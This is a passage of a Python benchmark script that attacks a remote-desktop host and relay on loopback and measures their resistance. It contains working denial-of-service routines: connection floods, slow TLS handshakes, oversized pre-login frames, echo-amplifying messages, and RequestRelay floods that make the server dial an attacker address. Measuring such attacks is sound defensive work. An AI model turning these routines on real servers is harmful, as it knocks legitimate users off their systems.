"""Attack benchmark: what unauthenticated clients can make a host agent or server hold.

Run as root (or any user that may bind 127.0.0.0/8 addresses) from the
repository root::

    .venv/bin/python bench/hostile.py            # full run: about 4-5 minutes
    .venv/bin/python bench/hostile.py --quick    # shorter holds, fewer connections: ~2.5 min
    .venv/bin/python bench/hostile.py --json results.json --only idle --only udp

It measures, it asserts nothing: it works against whatever code is checked
out, fixed or not, and prints each figure next to a reference measured in the
same run.  Everything is real processes on loopback: one Xvfb, one
C{twistd litedesk-relay} (rendezvous + relay, as the hosts' server), and for
every attack on a host a fresh C{twistd litedesk-host --listen} started with
RLIMIT_NOFILE soft = hard = 1024 (so file-limit exhaustion shows as it would
on a default Linux box); the legitimate viewer is C{litedesk-viewer
--headless}'s own connect code in a fresh process (L{DRIVER}) from
127.0.0.1.  Attackers are plain sockets in this process, bound to 127.0.0.2
(127.0.1.x / 127.0.2.x where an attack needs more source addresses than a
per-source limit allows), so per-source limits do not hit the legitimate
viewer.  Every loop is bounded in count and in time, and every child process
is stopped on exit (and gets SIGTERM if this process dies).

The attacks are those of issue 9 (bug numbers in brackets):

  - C{idle} [1]: 1,000 idle TCP connections from 127.0.0.2 to the host's
    C{--listen} port, held 35 s (the host's 30 s session timeout plus
    slack), then closed;
  - C{idle-spread} [1]: 1,100 (the issue's figure, more than the file
    limit holds) from 110 addresses (127.0.1.x, 10 each), held 15 s: what
    is left once per-source limits cannot help;
  - C{slow-tls} [1]: 200 connections sending a real TLS ClientHello one
    byte a second, held 25 s;
  - C{frame16} [2]: 48 TLS connections (certificate not checked: an
    attacker) each announcing a 16 MiB frame before the login and sending
    all of it but a few bytes as fast as the host reads (capped in time),
    then one byte a second;
  - C{testdelay} [2]: one TLS connection sending C{TestDelay} messages
    carrying 8 MiB of unknown fields (the host echoes them before the
    login), never reading (up to 64 of them, capped in time);
  - C{reqrelay} [3]: one TCP connection to the rendezvous port sending 300
    C{RequestRelay{id: HOST, uuid: uN, relay_server: "127.0.0.2:PORT",
    licence_key}} frames; counted: connections arriving at the attacker's
    listener on 127.0.0.2:PORT, held 20 s;
  - C{password} [4]: 8 wrong passwords through the relay from 127.0.0.2,
    then the right password from another viewer (127.0.0.1, through the
    relay too), retried until it gets a frame or 30 s passed; the figure is
    the time from the end of the burst to that first frame;
  - C{relay-unpaired} [6]: 1,024 relay connections (8 addresses 127.0.2.x,
    128 each: the relay allows 256 per address) each sending a
    C{RequestRelay} for a uuid nobody else uses plus 256 KiB; figures are
    the server's;
  - C{udp} [7]: a second server with C{--serial 7} and 12 rendezvous
    servers (C{-R}); C{RegisterPeer} probes of 5 bytes (C{id: "1"}) and of a
    realistic size (9-digit id and serial 1), 200 each paced at 250/s from
    127.0.0.2; figure: bytes out / bytes in, and the largest reply.

For each: RSS (VmRSS) and open files (entries of /proc/PID/fd) of the target
process before the attack, the peak while it runs, and after the attacker
let go (the first sample with open files back within 4 of "before", or
after 10 s); how many attacker connections the target had closed by the end
of the hold; EMFILE lines in the target's log; and the legitimate viewer's
time from the start of its connect to its first decoded frame (interpreter
start-up excluded) during the attack vs. before it on the same host (median
of 2 runs each after a warm-up; 1 with C{--quick}), as a ratio.  The legit
viewer connects directly to C{--listen} (127.0.0.1:PORT, key trusted on
first use) for the C{--listen} attacks and through the relay (C{--force-relay})
for the others.

Goals (issue 9): RSS growth <= 64 MiB and no file-limit exhaustion under
1,000 unauthenticated connections and every flood; the legitimate first
frame within 2x its time without the attack; after a wrong-password burst
the right password gets in within 20 s; no UDP reply larger than the
datagram that caused it (bytes out / in <= 1).
"""

from __future__ import annotations

import argparse
import contextlib
import ctypes
import json
import os
import resource
import select
import selectors
import signal
import socket
import ssl
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import uuid as uuidlib
from collections.abc import Callable, Iterable
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from litedesk.proto import message_pb2 as pb  # noqa: E402
from litedesk.proto import rendezvous_pb2 as rz  # noqa: E402
from litedesk.wire.bytescodec import FrameDecoder, encode_frame, encode_header  # noqa: E402
from tests.support.host_preamble import skip_signed_id  # noqa: E402
from tests.support.ports import free_port, free_port_pair  # noqa: E402
from tests.support.xvfb import Xvfb  # noqa: E402

TWISTD = [sys.executable, "-c", "from twisted.scripts.twistd import run; run()"]
LOCAL = "127.0.0.1"  # servers, host and the legitimate viewer
ATTACKER = "127.0.0.2"
HOST_NOFILE = 1024
PASSWORD = "hostile-bench-password"
MIB = 1024 * 1024
GOAL_RSS_MIB = 64.0
GOAL_FIRST_FRAME_RATIO = 2.0
GOAL_PASSWORD_S = 20.0
PR_SET_PDEATHSIG = 1

# The legitimate viewer: what `litedesk-viewer --headless` does (the viewer's
# connection.connect), timed from the start of the connect to the first decoded frame,
# so the figure excludes interpreter start-up and imports (about 0.5 s here,
# and the part most sensitive to the CPU the attack itself takes from the
# 2 cores).  Any failure is one JSON line with the error.
DRIVER = r"""
import json, sys, time
t_start = time.monotonic()
from twisted.internet.defer import ensureDeferred
from twisted.internet.task import react
from litedesk.viewer import cli, connection
from litedesk.session.viewer_session import ViewerSession

args = cli.build_parser().parse_args(sys.argv[1:])

async def run(reactor):
    t0 = reactor.seconds()
    out = {"imports": time.monotonic() - t_start}
    try:
        password = connection.read_password(args)
        session = ViewerSession(reactor, args.target, password, codec=args.codec)
        first = session.next_frame(0)
        out["path"] = await connection.connect(reactor, args, session)
        await connection.with_timeout(reactor, session.logged_in, args.timeout, "the login")
        out["login"] = reactor.seconds() - t0
        await connection.with_timeout(reactor, first, 10.0, "a frame")
        out["first_frame"] = reactor.seconds() - t0
        session.disconnect()
    except BaseException as e:
        out["error"] = f"{type(e).__name__}: {e}"
    print(json.dumps(out), flush=True)

react(lambda reactor: ensureDeferred(run(reactor)))
"""


# -- processes and /proc ---------------------------------------------------------------------


def _child_setup(nofile: int | None) -> Callable[[], None]:
    def setup() -> None:
        # Between fork and exec: die with this benchmark (SIGKILL runs no
        # cleanup here), and take the host's file limit.
        libc = ctypes.CDLL(None, use_errno=True)
        libc.prctl(PR_SET_PDEATHSIG, signal.SIGTERM)
        if nofile is not None:
            resource.setrlimit(resource.RLIMIT_NOFILE, (nofile, nofile))

    return setup


def rss_mib(pid: int) -> float:
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024
    except OSError:
        pass
    return float("nan")


def open_files(pid: int) -> int:
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return -1


def nofile_limit(pid: int) -> int:
    try:
        with open(f"/proc/{pid}/limits") as f:
            for line in f:
                if line.startswith("Max open files"):
                    return int(line.split()[3])
    except (OSError, ValueError):
        pass
    return -1


class Sampler(threading.Thread):
    """Samples RSS and open files of some processes every 0.2 s, in the background."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.pids: dict[str, int] = {}
        self.samples: list[tuple[float, str, float, int]] = []
        self._lock = threading.Lock()
        self._halt = threading.Event()

    def watch(self, name: str, pid: int) -> None:
        with self._lock:
            self.pids[name] = pid

    def unwatch(self, name: str) -> None:
        with self._lock:
            self.pids.pop(name, None)

    def run(self) -> None:
        while not self._halt.wait(0.2):
            with self._lock:
                pids = dict(self.pids)
            now = time.monotonic()
            for name, pid in pids.items():
                sample = (now, name, rss_mib(pid), open_files(pid))
                with self._lock:
                    self.samples.append(sample)

    def peak(self, name: str, t0: float, t1: float) -> tuple[float, int]:
        with self._lock:
            rows = [s for s in self.samples if s[1] == name and t0 <= s[0] <= t1]
        if not rows:
            return float("nan"), -1
        return max(r[2] for r in rows), max(r[3] for r in rows)

    def stop(self) -> None:
        self._halt.set()


@dataclass
class Server:
    proc: subprocess.Popen[bytes]
    port: int
    key: str
    log: Path

    @property
    def relay_port(self) -> int:
        return self.port + 1


@dataclass
class Host:
    proc: subprocess.Popen[bytes]
    peer_id: str
    listen_port: int
    log: Path
    known_hosts: Path


class Lab:
    """The processes of one run, all stopped by L{stop}."""

    def __init__(self, workdir: Path, quick: bool) -> None:
        self.dir = workdir
        self.quick = quick
        self.procs: list[subprocess.Popen[bytes]] = []
        self.xvfb = Xvfb(1280, 720, 24).start()
        self.env = dict(self.xvfb.env)
        self.pwfile = workdir / "password"
        self.pwfile.write_text(PASSWORD + "\n")
        self.pwfile.chmod(0o600)
        self.sampler = Sampler()
        self.sampler.start()
        self.server = self.start_server("server")
        self.sampler.watch("server", self.server.proc.pid)
        self._hosts = 0

    def spawn(self, name: str, argv: list[str], nofile: int | None = None) -> Any:
        out = open(self.dir / f"{name}.out", "wb")  # noqa: SIM115 - closed below, child keeps it
        try:
            proc = subprocess.Popen(
                argv,
                env=self.env,
                stdin=subprocess.DEVNULL,
                stdout=out,
                stderr=out,
                preexec_fn=_child_setup(nofile),
            )
        finally:
            out.close()
        self.procs.append(proc)
        return proc

    def start_server(self, name: str, *extra: str) -> Server:
        port = free_port_pair()
        data = self.dir / name
        log = self.dir / f"{name}.log"
        proc = self.spawn(
            name,
            [
                *TWISTD,
                "-n",
                "--pidfile=",
                "--logfile",
                str(log),
                "litedesk-relay",
                "--data-dir",
                str(data),
                "--port",
                str(port),
                "--interface",
                LOCAL,
                "--relay-servers",
                f"{LOCAL}:{port + 1}",
                *extra,
            ],
        )
        probe = rz.RendezvousMessage(register_peer=rz.RegisterPeer(id="(:probe:)"))
        deadline = time.monotonic() + 30
        while True:
            if proc.poll() is not None or time.monotonic() > deadline:
                raise RuntimeError(f"litedesk-relay did not start; see {self.dir / name}.out")
            try:
                udp_exchange(probe.SerializeToString(), port, timeout=0.3)
                break
            except OSError:
                continue
        key = (data / "id_ed25519.pub").read_text().strip()
        return Server(proc, port, key, log)

    def start_host(self, label: str) -> Host:
        self._hosts += 1
        peer_id = f"7{os.getpid() % 1000:03d}{self._hosts:05d}"
        name = f"host-{self._hosts}-{label}"
        log = self.dir / f"{name}.log"
        listen = free_port()
        proc = self.spawn(
            name,
            [
                *TWISTD,
                "-n",
                "--pidfile=",
                "--logfile",
                str(log),
                "litedesk-host",
                "--config-dir",
                str(self.dir / name),
                "--rendezvous",
                f"{LOCAL}:{self.server.port}",
                "--key",
                self.server.key,
                "--id",
                peer_id,
                "--password-file",
                str(self.pwfile),
                "--display",
                str(self.xvfb.display),
                "--listen",
                f"tcp:{listen}:interface={LOCAL}",
            ],
            nofile=HOST_NOFILE,
        )
        deadline = time.monotonic() + 40
        while f"as id {peer_id}" not in (log.read_text() if log.exists() else ""):
            if proc.poll() is not None or time.monotonic() > deadline:
                raise RuntimeError(f"litedesk-host did not register; see {log}")
            time.sleep(0.1)
        host = Host(proc, peer_id, listen, log, self.dir / f"{name}.known_hosts")
        self.sampler.watch("host", proc.pid)
        return host

    def stop_host(self, host: Host) -> None:
        self.sampler.unwatch("host")
        stop_procs([host.proc])

    def viewer(self, host: Host, path: str, timeout: float = 40.0) -> dict[str, Any]:
        """One legitimate viewer from 127.0.0.1: connect, log in, first frame."""
        if path == "direct":
            target = [f"{LOCAL}:{host.listen_port}", "--known-hosts", str(host.known_hosts)]
        else:
            target = [
                host.peer_id,
                "--rendezvous",
                f"{LOCAL}:{self.server.port}",
                "--key",
                self.server.key,
                "--force-relay",
            ]
        argv = [
            sys.executable,
            "-c",
            DRIVER,
            *target,
            "--password-file",
            str(self.pwfile),
            "--headless",
            "--timeout",
            "20",
        ]
        t = time.monotonic()
        rec: dict[str, Any] = {"start": t}
        try:
            proc = subprocess.run(
                argv,
                env=self.env,
                capture_output=True,
                text=True,
                timeout=timeout,
                stdin=subprocess.DEVNULL,
                preexec_fn=_child_setup(None),
            )
        except subprocess.TimeoutExpired:
            rec.update(error=f"no result within {timeout:.0f} s", wall=time.monotonic() - t)
            return rec
        rec["wall"] = time.monotonic() - t
        lines = proc.stdout.strip().splitlines()
        try:
            rec.update(json.loads(lines[-1]))
        except (IndexError, ValueError):
            rec["error"] = (proc.stderr.strip().splitlines() or ["no output"])[-1][:200]
        return rec

    def stop(self) -> None:
        self.sampler.stop()
        stop_procs(self.procs)
        self.xvfb.stop()


def stop_procs(procs: Iterable[subprocess.Popen[bytes]]) -> None:
    procs = list(procs)
    for p in procs:
        if p.poll() is None:
            p.terminate()
    for p in procs:
        try:
            p.wait(10)
        except subprocess.TimeoutExpired:
            p.kill()
            p.wait()


def udp_exchange(data: bytes, port: int, timeout: float) -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind((LOCAL, 0))
        s.settimeout(timeout)
        s.sendto(data, (LOCAL, port))
        return s.recvfrom(65536)[0]


# -- attacker sockets ------------------------------------------------------------------------


def _attack_tls_context() -> ssl.SSLContext:
    # An attacker does not care whom it talks to: no certificate check.
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


def client_hello() -> bytes:
    """The bytes a TLS client sends first (a real ClientHello)."""
    obj = _attack_tls_context().wrap_bio(ssl.MemoryBIO(), out := ssl.MemoryBIO())
    with contextlib.suppress(ssl.SSLWantReadError):
        obj.do_handshake()
    return out.read()


def open_many(
    dest: tuple[str, int], sources: list[str], n: int, limit: float, in_flight: int = 64
) -> tuple[list[socket.socket], int]:
    """Up to C{n} TCP connections, C{in_flight} connects at a time, within C{limit} s.

    Returns the connected sockets (non-blocking) and how many connects failed.
    A host that stops accepting still gets connections completed by the kernel
    up to its listen backlog; the rest time out here instead of hanging.
    """
    sel = selectors.DefaultSelector()
    done: list[socket.socket] = []
    failed = 0
    started = 0
    deadline = time.monotonic() + limit
    pending: dict[socket.socket, float] = {}
    try:
        while (started < n or pending) and time.monotonic() < deadline:
            while started < n and len(pending) < in_flight:
                s = socket.socket()
                s.setblocking(False)
                try:
                    s.bind((sources[started % len(sources)], 0))
                except OSError:
                    s.close()
                    failed += 1
                    started += 1
                    continue
                s.connect_ex(dest)
                sel.register(s, selectors.EVENT_WRITE)
                pending[s] = time.monotonic() + 3.0
                started += 1
            for key, _ in sel.select(0.05):
                s = key.fileobj  # type: ignore[assignment]
                sel.unregister(s)
                del pending[s]
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    done.append(s)
                else:
                    s.close()
                    failed += 1
            now = time.monotonic()
            for s, until in list(pending.items()):
                if now > until:
                    sel.unregister(s)
                    del pending[s]
                    s.close()
                    failed += 1
    finally:
        for s in pending:
            s.close()
        failed += len(pending)
        sel.close()
    return done, failed + (n - started)


def peer_gone(s: socket.socket) -> bool:
    """True once the other side closed or reset the connection, without reading.

    An attacker that never reads must not drain what the target queued for it:
    POLLRDHUP reports the peer's FIN with unread data still in our buffer.
    """
    try:
        p = select.poll()
        p.register(s, select.POLLRDHUP | select.POLLHUP | select.POLLERR)
        return bool(p.poll(0))
    except (OSError, ValueError):
        return True


def closed_by_peer(s: socket.socket) -> bool:
    """True once the other side closed or reset the connection (reads what is there)."""
    try:
        for _ in range(64):  # bounded: drains at most 4 MiB per call
            data = s.recv(65536, socket.MSG_DONTWAIT)
            if not data:
                return True
            if len(data) < 65536:
                return False
        return False
    except (BlockingIOError, InterruptedError):
        return False
    except OSError:
        return True


def close_all(socks: Iterable[socket.socket]) -> None:
    for s in socks:
        with contextlib.suppress(OSError):
            # RST rather than FIN: the attacker leaves nothing in TIME_WAIT.
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")
        s.close()


class RawTls:
    """A TLS client over a plain socket, records made in memory.

    The ciphertext is then pushed with non-blocking sends, so many
    connections can be driven from one loop without TLS write-retry rules.
    """

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        self.inc = ssl.MemoryBIO()
        self.out = ssl.MemoryBIO()
        self.obj = _attack_tls_context().wrap_bio(self.inc, self.out)
        self.pending = b""

    def handshake(self, timeout: float) -> None:
        self.sock.setblocking(True)
        self.sock.settimeout(timeout)
        # The host speaks first (its SignedId); TLS starts after it.
        skip_signed_id(self.sock)
        while True:
            try:
                self.obj.do_handshake()
                break
            except ssl.SSLWantReadError:
                data = self.out.read()
                if data:
                    self.sock.sendall(data)
                chunk = self.sock.recv(65536)
                if not chunk:
                    raise ConnectionError("closed during the TLS handshake") from None
                self.inc.write(chunk)
        data = self.out.read()
        if data:
            self.sock.sendall(data)
        self.sock.setblocking(False)

    def queue(self, plaintext: bytes) -> None:
        self.obj.write(plaintext)
        self.pending += self.out.read()

    def push(self) -> bool:
        """Send what is queued; False once the peer is gone."""
        while self.pending:
            try:
                n = self.sock.send(self.pending[: 1 << 20])
            except (BlockingIOError, InterruptedError):
                return True
            except OSError:
                return False
            self.pending = self.pending[n:]
        return True


def tls_connections(
    dest: tuple[str, int], n: int, limit: float
) -> tuple[list[RawTls], int, list[str]]:
    socks, failed = open_many(dest, [ATTACKER], n, limit)
    conns: list[RawTls] = []
    errors: list[str] = []
    for s in socks:
        t = RawTls(s)
        try:
            t.handshake(5.0)
            conns.append(t)
        except (OSError, ssl.SSLError) as e:
            failed += 1
            errors.append(f"{type(e).__name__}: {e}"[:120])
            s.close()
    return conns, failed, errors[:3]


def framed(msg: Any) -> bytes:
    return encode_frame(msg.SerializeToString())


def read_frames(
    s: socket.socket | ssl.SSLSocket, decoder: FrameDecoder, deadline: float
) -> list[bytes]:
    s.settimeout(max(0.05, deadline - time.monotonic()))
    data = s.recv(65536)
    if not data:
        raise ConnectionError("closed")
    return decoder.feed(data)


# -- one attack ------------------------------------------------------------------------------


@dataclass
class Result:
    name: str
    bug: int
    target: str  # "host" or "server"
    what: str
    rss_before: float = float("nan")
    rss_peak: float = float("nan")
    rss_after: float = float("nan")
    fds_before: int = -1
    fds_peak: int = -1
    fds_after: int = -1
    fd_limit: int = -1
    settle_s: float = float("nan")
    emfile_log_lines: int = 0
    viewer_path: str = ""
    baseline: list[dict[str, Any]] = field(default_factory=list)
    during: list[dict[str, Any]] = field(default_factory=list)
    figures: dict[str, Any] = field(default_factory=dict)
    notes: list[str] = field(default_factory=list)

    @property
    def rss_growth(self) -> float:
        return self.rss_peak - self.rss_before

    @staticmethod
    def _median(runs: list[dict[str, Any]]) -> float:
        ok = [float(r["first_frame"]) for r in runs if "first_frame" in r]
        return statistics.median(ok) if ok else float("nan")

    @property
    def base_ff(self) -> float:
        return self._median(self.baseline)

    @property
    def during_ff(self) -> float:
        return self._median(self.during)

    @property
    def during_failed(self) -> int:
        return sum(1 for r in self.during if "first_frame" not in r)

    @property
    def exhausted(self) -> bool:
        return self.emfile_log_lines > 0 or (self.fd_limit > 0 and self.fds_peak >= self.fd_limit)

    def verdicts(self) -> dict[str, bool | None]:
        v: dict[str, bool | None] = {}
        if self.rss_before == self.rss_before:
            v["rss"] = self.rss_growth <= GOAL_RSS_MIB
            v["files"] = not self.exhausted
        if self.name == "password":
            t = self.figures.get("right_password_after_s")
            v["right password <= 20 s"] = t is not None and t <= GOAL_PASSWORD_S
        elif self.during:
            ratio = self.during_ff / self.base_ff
            v["viewer <= 2x"] = self.during_failed == 0 and ratio <= GOAL_FIRST_FRAME_RATIO
        if self.name == "reqrelay":
            v["no dial to attacker"] = self.figures.get("connections_to_attacker") == 0
        if self.name == "udp":
            v["reply <= request"] = all(
                f["bytes_out"] <= f["bytes_in"] and f["max_reply"] <= f["request_size"]
                for f in self.figures.get("probes", [])
            )
        return v

    def to_json(self) -> dict[str, Any]:
        d = asdict(self)
        d.update(
            rss_growth=self.rss_growth,
            first_frame_baseline=self.base_ff,
            first_frame_during=self.during_ff,
            first_frame_ratio=self.during_ff / self.base_ff,
            during_failed=self.during_failed,
            file_limit_exhausted=self.exhausted,
            goals=self.verdicts(),
        )
        return d


class Bench:
    def __init__(self, lab: Lab, quick: bool) -> None:
        self.lab = lab
        self.quick = quick
        self.runs_base = 1 if quick else 2
        self.runs_during = 1 if quick else 2

    # -- helpers shared by the attacks --

    def _target_pid(self, r: Result, host: Host | None) -> int:
        if r.target == "host":
            assert host is not None
            return host.proc.pid
        return self.lab.server.proc.pid

    def _before(self, r: Result, host: Host | None, path: str) -> None:
        """Warm up (the first session loads the encoder), then the same-run reference."""
        r.viewer_path = path
        if host is not None:
            self.lab.viewer(host, path)
            r.baseline = [self.lab.viewer(host, path) for _ in range(self.runs_base)]
        pid = self._target_pid(r, host)
        r.rss_before, r.fds_before = rss_mib(pid), open_files(pid)
        r.fd_limit = nofile_limit(pid)

    def _viewers_during(self, r: Result, host: Host | None, path: str) -> threading.Thread:
        def run() -> None:
            for _ in range(self.runs_during):
                if host is not None:
                    r.during.append(self.lab.viewer(host, path))

        t = threading.Thread(target=run, daemon=True)
        t.start()
        return t

    def _after(self, r: Result, host: Host | None, t0: float, settle: float = 10.0) -> None:
        """Peak over the attack; then wait (bounded) for the target to let go."""
        name = r.target
        pid = self._target_pid(r, host)
        t_released = time.monotonic()
        r.rss_peak, r.fds_peak = self.lab.sampler.peak(name, t0, t_released)
        r.rss_peak = max(r.rss_peak, r.rss_before)
        r.fds_peak = max(r.fds_peak, r.fds_before)
        deadline = t_released + (5.0 if self.quick else settle)
        while time.monotonic() < deadline and open_files(pid) > r.fds_before + 4:
            time.sleep(0.1)
        r.settle_s = time.monotonic() - t_released
        r.rss_after, r.fds_after = rss_mib(pid), open_files(pid)
        log = host.log if host is not None else self.lab.server.log
        try:
            text = log.read_text(errors="replace")
        except OSError:
            text = ""
        r.emfile_log_lines = sum(
            1 for line in text.splitlines() if "Too many open files" in line or "EMFILE" in line
        )

    def _hold(
        self,
        seconds: float,
        socks: list[socket.socket],
        tick: Callable[[float], None] | None = None,
    ) -> tuple[int, float | None]:
        """Keep C{socks} open for C{seconds}, noting when the target closes them.

        Returns how many the target closed and when the last one went (None
        if some are still open).
        """
        open_ = set(socks)
        closed = 0
        last: float | None = None
        t0 = time.monotonic()
        end = t0 + seconds
        next_tick = t0
        while time.monotonic() < end and open_:
            for s in list(open_):
                if peer_gone(s):
                    open_.discard(s)
                    closed += 1
                    last = time.monotonic() - t0
            if tick is not None and time.monotonic() >= next_tick:
                tick(time.monotonic() - t0)
                next_tick += 1.0
            time.sleep(0.2)
        return closed, (last if not open_ else None)

    # -- the attacks --

    def idle(self, spread: bool) -> Result:
        name = "idle-spread" if spread else "idle"
        hold = (12.0 if self.quick else 15.0) if spread else (12.0 if self.quick else 35.0)
        # The spread variant uses the issue's reproduction figure, 1,100: more
        # than a 1,024 file limit can hold, so exhaustion shows without a fix.
        count = 1100 if spread else 1000
        sources = [f"127.0.1.{i}" for i in range(1, 111)] if spread else [ATTACKER]
        r = Result(
            name,
            1,
            "host",
            f"{count:,} idle TCP connections to --listen from {len(sources)} address(es), "
            f"held {hold:.0f} s",
        )
        host = self.lab.start_host(name)
        try:
            self._before(r, host, "direct")
            t0 = time.monotonic()
            socks, failed = open_many((LOCAL, host.listen_port), sources, count, 15.0)
            r.figures["connected"] = len(socks)
            r.figures["connect_failed"] = failed
            viewers = self._viewers_during(r, host, "direct")
            closed, last = self._hold(hold, socks)
            viewers.join(60)
            r.figures["closed_by_target"] = closed
            r.figures["all_closed_after_s"] = last
            close_all(socks)
            self._after(r, host, t0)
        finally:
            self.lab.stop_host(host)
        return r

    def slow_tls(self) -> Result:
        hold = 12.0 if self.quick else 25.0
        r = Result(
            "slow-tls",
            1,
            "host",
            f"200 TLS ClientHellos at one byte a second to --listen, held {hold:.0f} s",
        )
        hello = client_hello()
        r.figures["client_hello_bytes"] = len(hello)
        host = self.lab.start_host("slow-tls")
        try:
            self._before(r, host, "direct")
            t0 = time.monotonic()
            socks, failed = open_many((LOCAL, host.listen_port), [ATTACKER], 200, 10.0)
            r.figures["connected"] = len(socks)
            r.figures["connect_failed"] = failed

            def tick(elapsed: float) -> None:
                i = int(elapsed)
                if i < len(hello) - 1:  # never the last byte: the hello stays incomplete
                    for s in socks:
                        with contextlib.suppress(OSError):
                            s.send(hello[i : i + 1])

            viewers = self._viewers_during(r, host, "direct")
            closed, last = self._hold(hold, socks, tick)
            viewers.join(60)
            r.figures["closed_by_target"] = closed
            r.figures["all_closed_after_s"] = last
            close_all(socks)
            self._after(r, host, t0)
        finally:
            self.lab.stop_host(host)
        return r

    def frame16(self) -> Result:
        n = 16 if self.quick else 48
        push_limit = 6.0 if self.quick else 12.0
        hold = 5.0 if self.quick else 8.0
        r = Result(
            "frame16",
            2,
            "host",
            f"{n} TLS connections announcing a 16 MiB frame before login, sending it "
            f"({push_limit:.0f} s cap) then a byte a second for {hold:.0f} s",
        )
        host = self.lab.start_host("frame16")
        try:
            self._before(r, host, "direct")
            t0 = time.monotonic()
            conns, failed, errors = tls_connections((LOCAL, host.listen_port), n, 10.0)
            r.figures["tls_connected"] = len(conns)
            r.figures["tls_failed"] = failed
            if errors:
                r.notes.extend(errors)
            size = 16 * MIB
            keep_back = int(hold) + 2  # bytes left for the trickle: the frame never completes
            left = {c: size - keep_back for c in conns}
            alive = set(conns)
            for c in conns:
                c.queue(encode_header(size))
            chunk = b"\0" * (256 * 1024)
            deadline = time.monotonic() + push_limit
            while time.monotonic() < deadline and any(left[c] for c in alive):
                progressed = False
                for c in list(alive):
                    if not c.pending and left[c]:
                        k = min(len(chunk), left[c])
                        c.queue(chunk[:k])
                        left[c] -= k
                    before = len(c.pending)
                    if not c.push():
                        alive.discard(c)
                    progressed |= len(c.pending) < before
                if not progressed:
                    time.sleep(0.005)
            sent = sum(size - keep_back - left[c] for c in conns)
            r.figures["payload_sent_mib"] = round(sent / MIB, 1)
            r.figures["conns_alive_after_push"] = len(alive)

            def tick(_elapsed: float) -> None:
                for c in list(alive):
                    c.queue(b"\0")
                    if not c.push():
                        alive.discard(c)

            viewers = self._viewers_during(r, host, "direct")
            closed, _last = self._hold(hold, [c.sock for c in conns], tick)
            viewers.join(60)
            r.figures["closed_by_target"] = closed
            close_all(c.sock for c in conns)
            self._after(r, host, t0)
        finally:
            self.lab.stop_host(host)
        return r

    def testdelay(self) -> Result:
        count = 16 if self.quick else 64
        push_limit = 6.0 if self.quick else 12.0
        hold = 5.0 if self.quick else 8.0
        r = Result(
            "testdelay",
            2,
            "host",
            f"one TLS connection sending up to {count} TestDelay with 8 MiB unknown fields "
            f"({push_limit:.0f} s cap), never reading, held {hold:.0f} s",
        )
        # TestDelay{from_client, time} plus an unknown length-delimited field
        # (number 1000): the host's protobuf keeps it and echoes it back.
        unknown = 8 * MIB
        td = pb.TestDelay(time=1, from_client=True).SerializeToString()
        tag = (1000 << 3) | 2
        td += _varint(tag) + _varint(unknown) + b"x" * unknown
        td_msg = pb.TestDelay()
        td_msg.ParseFromString(td)
        frame = framed(pb.Message(test_delay=td_msg))
        host = self.lab.start_host("testdelay")
        try:
            self._before(r, host, "direct")
            t0 = time.monotonic()
            conns, _failed, errors = tls_connections((LOCAL, host.listen_port), 1, 10.0)
            r.notes.extend(errors)
            sent = 0
            alive = bool(conns)
            if conns:
                c = conns[0]
                deadline = time.monotonic() + push_limit
                while time.monotonic() < deadline and alive and (c.pending or sent < count):
                    if not c.pending:
                        c.queue(frame)
                        sent += 1
                    before = len(c.pending)
                    alive = c.push()
                    if len(c.pending) == before:
                        time.sleep(0.005)
                # Messages handed to the kernel (the last may still be partly queued here);
                # a host that closed but still drains its socket takes them too.
                r.figures["messages_sent"] = sent - (1 if c.pending else 0)
            viewers = self._viewers_during(r, host, "direct")
            closed, _ = self._hold(hold, [c.sock for c in conns])
            viewers.join(60)
            r.figures["closed_by_target"] = closed
            close_all(c.sock for c in conns)
            self._after(r, host, t0)
        finally:
            self.lab.stop_host(host)
        return r

    def reqrelay(self) -> Result:
        n = 300
        hold = 10.0 if self.quick else 20.0
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind((ATTACKER, 0))
        listener.listen(1024)
        listener.setblocking(False)
        lport = listener.getsockname()[1]
        r = Result(
            "reqrelay",
            3,
            "host",
            f"{n} RequestRelay frames naming relay {ATTACKER}:{lport} on one rendezvous "
            f"connection, held {hold:.0f} s",
        )
        host = self.lab.start_host("reqrelay")
        accepted: list[socket.socket] = []
        rv: socket.socket | None = None
        try:
            self._before(r, host, "relay")
            t0 = time.monotonic()
            rv = socket.socket()
            rv.bind((ATTACKER, 0))
            rv.settimeout(5)
            rv.connect((LOCAL, self.lab.server.port))
            flood = b"".join(
                framed(
                    rz.RendezvousMessage(
                        request_relay=rz.RequestRelay(
                            id=host.peer_id,
                            uuid=f"u{i}",
                            relay_server=f"{ATTACKER}:{lport}",
                            licence_key=self.lab.server.key,
                        )
                    )
                )
                for i in range(n)
            )
            rv.sendall(flood)
            rv.setblocking(False)
            first_at: float | None = None
            viewers_started = False
            viewers = None
            end = time.monotonic() + hold
            while time.monotonic() < end:
                try:
                    while len(accepted) < 5000:  # bounded
                        s, _ = listener.accept()
                        accepted.append(s)
                        if first_at is None:
                            first_at = time.monotonic() - t0
                except (BlockingIOError, InterruptedError):
                    pass
                closed_by_peer(rv)  # drain whatever the server answers
                if not viewers_started and time.monotonic() - t0 > 2.0:
                    viewers = self._viewers_during(r, host, "relay")
                    viewers_started = True
                time.sleep(0.05)
            if viewers is not None:
                viewers.join(60)
            r.figures["connections_to_attacker"] = len(accepted)
            r.figures["first_after_s"] = first_at
            r.figures["still_open_at_end"] = sum(1 for s in accepted if not peer_gone(s))
            close_all([*accepted, rv])
            rv = None
            listener.close()
            self._after(r, host, t0)
        finally:
            close_all(accepted)
            if rv is not None:
                rv.close()
            listener.close()
            self.lab.stop_host(host)
        return r

    def password(self) -> Result:
        burst = 8
        wait_cap = 25.0 if self.quick else 30.0
        r = Result(
            "password",
